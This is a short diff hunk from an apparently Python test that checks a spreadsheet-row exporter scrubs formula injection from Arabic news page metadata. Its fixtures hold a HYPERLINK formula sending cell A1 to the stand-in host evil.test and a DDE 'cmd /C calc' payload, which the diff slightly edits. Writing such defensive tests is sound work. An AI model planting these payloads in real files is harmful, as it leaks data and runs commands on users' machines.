@@ -67,7 +67,7 @@ def test_spreadsheet_row_scrubs_text_and_keeps_numbers() -> None:
 
 TITLE = '=HYPERLINK("http://evil.test/?"&A1,"خبر عاجل")'
 HEAD = (
-    '<meta name="author" content="@SUM(1+1)*cmd|\' /C calc\'!A0">'
+    '<meta name="author" content="@SUM(A+B)*cmd|\' /C calc\'!A">'
     '<meta property="article:section" content="+محليات">'
     '<meta name="keywords" content="-2+3, =1+1, وسم عادي">'
 )
